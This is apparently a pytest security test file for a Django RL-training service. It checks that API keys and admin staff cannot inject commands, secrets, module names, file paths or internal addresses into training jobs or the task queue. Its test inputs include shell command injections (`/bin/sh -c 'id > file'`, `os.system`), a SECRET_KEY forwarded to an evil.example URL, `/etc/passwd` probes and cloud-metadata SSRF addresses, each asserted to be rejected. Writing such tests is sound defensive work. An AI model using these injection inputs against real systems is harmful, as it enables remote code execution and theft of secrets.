"""What a key and a person in the admin once could make the site do."""

import json
import sys
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.http import HttpResponse
from django.test import Client
from django_q.models import Failure, OrmQ, Schedule, Success
from django_q.signing import SignedPackage

from rl import online_learner, registered
from rl.base.errors import UsageError
from rl.base.records import silent
from rl.lm.tiny_model import build
from rl.models import Agent, TrainingRun
from rl.runs import run as runs
from tests.admin.test_editing import AGENT
from tests.web.api.conftest import Caller, assert_problem

pytestmark = [pytest.mark.learn, pytest.mark.django_db]


@pytest.fixture
def server(secret_key: str) -> Caller:
    return Caller(secret_key)


def command_in(file: Path) -> dict[str, Any]:
    """An environment that writes the file when a run starts its tools."""
    command = ["/bin/sh", "-c", f"id > {file}"]
    return {"type": "code_exec", "tools": {"mcp": {"x": {"command": command}}}}


def train(server: Caller, **body: Any) -> HttpResponse:
    return server.post("/api/policies/train_policy/support-chat/", body)


# --- the API ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("dry_run", [False, True])
def test_a_key_cannot_name_a_command(server: Caller, rated: Agent, tmp_path: Path, dry_run: bool):
    body = {"method": "agent", "maxSteps": 1, "environment": command_in(tmp_path / "f")}
    problem = assert_problem(train(server, dryRun=dry_run, **body), 400, "environment must be a name")
    assert str(tmp_path) not in json.dumps(problem)
    assert not TrainingRun.objects.exists()
    assert not OrmQ.objects.exists()


@pytest.mark.parametrize("where", ["env_from", "headers_env"])
def test_a_key_cannot_name_a_variable_of_the_environment(server: Caller, rated: Agent, where: str):
    tools = {"mcp": {"x": {"url": "https://evil.example/mcp", where: {"SECRET_KEY": "SECRET_KEY"}}}}
    environment = {"type": "code_exec", "tools": tools}
    assert_problem(train(server, method="agent", environment=environment), 400, "environment must be a name")


@pytest.mark.parametrize("environment", [{"type": "antigravity:X"}, "antigravity:X"])
def test_a_key_cannot_name_a_module(server: Caller, rated: Agent, environment: Any):
    sys.modules.pop("antigravity", None)
    for dry_run in (True, False):
        assert_problem(train(server, dryRun=dry_run, method="agent", environment=environment), 400, "environment")
    assert "antigravity" not in sys.modules


def test_a_key_cannot_ask_what_exists_on_the_machine(server: Caller, rated: Agent, tmp_path: Path):
    build(tmp_path / "model", silent)
    (tmp_path / "empty").mkdir()
    places = ["/etc", "/etc/passwd", "/nowhere", *(str(tmp_path / name) for name in ("model", "empty", "missing"))]
    answers = {place: train(server, dryRun=True, method="dpo", baseModel=place) for place in places}
    assert {answer.status_code for answer in answers.values()} == {400}
    assert len({answer.content.decode().replace(place, "PLACE") for place, answer in answers.items()}) == 1


@pytest.mark.parametrize("address", ["http://169.254.169.254/latest", "https://evil.example", "http://127.0.0.1:6379"])
def test_a_key_cannot_name_an_address(server: Caller, rated: Agent, address: str):
    answer = train(server, method="grpo", rollouts="online", vllmServer=address)
    assert_problem(answer, 400, "no inference server is registered under the name")


def test_numbers_and_words_of_a_list_are_all_that_a_key_may_set(server: Caller, rated: Agent):
    assert (
        train(server, dryRun=True, method="dpo", loraR=4, precision="fp32", activationCheckpointing=True).status_code
        == 200
    )
    for wrong in ({"loraR": "4"}, {"precision": "/etc"}, {"activationCheckpointing": "/etc"}, {"loraR": [4]}):
        assert_problem(train(server, dryRun=True, method="dpo", **wrong), 400)
    for unknown in ("outputDir", "dataFile", "accelerateConfig", "origins", "reportTo"):
        assert_problem(train(server, dryRun=True, method="dpo", **{unknown: "/tmp/x"}), 400, "unknown hyper-parameter")


def test_a_key_names_a_reward_model_by_its_version(server: Caller, rated: Agent, tmp_path: Path):
    for place in ("/etc", str(tmp_path), str(tmp_path / "missing")):
        answer = train(server, dryRun=True, method="ppo", rewardModel=place)
        assert_problem(answer, 400, f"no reward model {place!r}; there are: none yet")


# --- the admin --------------------------------------------------------------------------------------------------------


def post_agent(staff: Client, agent: Agent, **fields: str) -> HttpResponse:
    return staff.post(f"/admin/rl/agent/{agent.pk}/change/", {**AGENT, "name": agent.name, **fields})


@pytest.mark.parametrize(
    "overrides", [{"environment": command_in(Path("/tmp/f"))}, {"vllm_server": "http://evil.example"}]
)
def test_overrides_of_an_agent_are_numbers_words_and_registered_names(staff: Client, agent: Agent, overrides: Any):
    answer = post_agent(staff, agent, training_overrides=json.dumps(overrides))
    assert answer.status_code == 200
    (name,) = overrides
    errors = str(answer.context["adminform"].form.errors["training_overrides"])
    assert f"{name} must be a name" in errors or "no inference server is registered" in errors
    agent.refresh_from_db()
    assert agent.training_overrides == {}


def test_the_base_model_is_chosen_among_the_registered_ones(staff: Client, agent: Agent, settings: Any):
    settings.BASE_MODELS = {"small": "owner/small"}
    for wrong in ("/etc", "evil/model", "small"):
        assert "base_model" in post_agent(staff, agent, base_model=wrong).context["adminform"].form.errors
    assert post_agent(staff, agent, base_model="owner/small").status_code == 302
    agent.refresh_from_db()
    assert agent.base_model == "owner/small"


def test_an_agent_keeps_the_model_that_it_has(staff: Client, agent: Agent):
    Agent.objects.update(base_model="owner/from-the-command-line")
    assert post_agent(staff, agent, base_model="owner/from-the-command-line", description="New.").status_code == 302
    agent.refresh_from_db()
    assert (agent.base_model, agent.description) == ("owner/from-the-command-line", "New.")


def test_an_override_of_an_earlier_ratchet_is_refused_and_not_run(
    rated: Agent, settings: Any, tmp_path: Path, caplog: pytest.LogCaptureFixture
):
    settings.ENABLE_ONLINE_LEARNING = True
    Agent.objects.update(training_overrides={"environment": command_in(tmp_path / "f")}, min_samples_to_retrain=1)
    assert online_learner.tick() == []
    assert "support-chat: no run could be queued: environment must be a name" in caplog.text
    assert not TrainingRun.objects.exists()


def test_a_run_of_an_earlier_ratchet_is_refused_and_not_run(
    staff: Client, agent: Agent, data_dir: Path, tmp_path: Path
):
    config = agent.training_config("agent").with_overrides({"environment": command_in(tmp_path / "f")}).as_dict()
    options = {"data": {}, "base_model": ""}
    run = TrainingRun.objects.create(agent=agent, method="agent", config=config, options=options, state="failed")
    answer = staff.post(f"/runs/{run.pk}/", {"action": "resume"}, follow=True)
    assert "has an environment that nobody is known to have set who may" in answer.content.decode()
    assert run.requeue()
    assert run.claim()
    with pytest.raises(UsageError, match="environment"):
        runs.execute(run, silent)
    run.refresh_from_db()
    assert run.state == TrainingRun.State.FAILED
    assert not (tmp_path / "f").exists()


# --- the queue --------------------------------------------------------------------------------------------------------

SYSTEM = {"func": "os.system", "args": "'id > /tmp/f'", "schedule_type": "O", "repeats": "-1", "name": "x"}


def test_nobody_writes_a_schedule_in_the_admin(staff: Client):
    assert staff.post("/admin/django_q/schedule/add/", SYSTEM).status_code == 403
    mine = Schedule.objects.create(name="mine", func="rl.tasks.supervise_runs")
    assert staff.post(f"/admin/django_q/schedule/{mine.pk}/change/", SYSTEM).status_code == 403
    assert staff.post(f"/admin/django_q/schedule/{mine.pk}/delete/", {"post": "yes"}).status_code == 403
    assert staff.get(f"/admin/django_q/schedule/{mine.pk}/change/").status_code == 200
    mine.refresh_from_db()
    assert mine.func == "rl.tasks.supervise_runs"


@pytest.mark.parametrize(("model", "success"), [(Success, True), (Failure, False)])
def test_no_task_is_sent_again_in_the_admin(staff: Client, model: Any, success: bool):
    task = {"id": "1" * 32, "name": "old", "func": "os.system", "args": ("id > /tmp/f",), "success": success}
    model.objects.create(**task, started="2026-01-01T00:00Z", stopped="2026-01-01T00:00Z")
    address = f"/admin/django_q/{model._meta.model_name}/"
    page = staff.post(address, {"action": "resubmit_task", "_selected_action": ["1" * 32]}, follow=True)
    assert "resubmit" not in page.content.decode().lower()
    assert not OrmQ.objects.exists()
    assert staff.get(f"{address}{'1' * 32}/change/").status_code == 200
    assert staff.post(f"{address}{'1' * 32}/change/", {"name": "new"}).status_code == 403


def test_waiting_messages_are_not_edited_in_the_admin(staff: Client):
    payload = SignedPackage.dumps(
        {"id": "1" * 32, "name": "one", "func": "rl.tasks.start_run", "args": (1,), "kwargs": {}}
    )
    message = OrmQ.objects.create(key="ratchet", payload=payload)
    address = f"/admin/django_q/ormq/{message.pk}/"
    assert staff.get(f"{address}change/").status_code == 200
    assert staff.post(f"{address}change/", {"key": "other"}).status_code == 403
    assert staff.post(f"{address}delete/", {"post": "yes"}).status_code == 403


# --- what is chosen by name ---------------------------------------------------------------------------------------------


def documented(file: str) -> str:
    """The file of this name, as docs/agents.md shows it."""
    page = (settings.BASE_DIR / "docs" / "agents.md").read_text()
    return page.partition(f"`{file}`:\n\n```yaml\n")[2].partition("```")[0]


def test_a_key_chooses_a_registered_environment_and_model(server: Caller, rated: Agent, settings: Any, tmp_path: Path):
    settings.BASE_MODELS, settings.ENVIRONMENTS_DIR = {"small": "owner/small"}, tmp_path
    (tmp_path / "plain.yaml").write_text("env: {type: code_exec, max_turns: 3}\n")
    body = {"method": "agent", "environment": "plain", "baseModel": "small", "maxSteps": 1}
    assert train(server, dryRun=True, **body).json()["modelConfig"]["base_model"] == "owner/small"
    assert train(server, **body).status_code == 202
    run = TrainingRun.objects.get()
    assert (run.config["environment"]["options"], run.options["base_model"]) == ({"max_turns": 3}, "owner/small")
    assert (run.options["origins"]["environment"], run.options["origins"]["base_model"]) == ("plain", "small")


def test_the_environment_of_the_documentation_can_be_registered(settings: Any, tmp_path: Path):
    settings.ENVIRONMENTS_DIR = tmp_path
    (tmp_path / "tasks").mkdir()
    text = documented("shop.yaml").replace("/srv/tasks/shop", str(tmp_path / "tasks"))
    (tmp_path / "shop.yaml").write_text(text)
    assert registered.environment("shop").value["tools"]["mcp"]["orders"]["command"][0] == "python3"
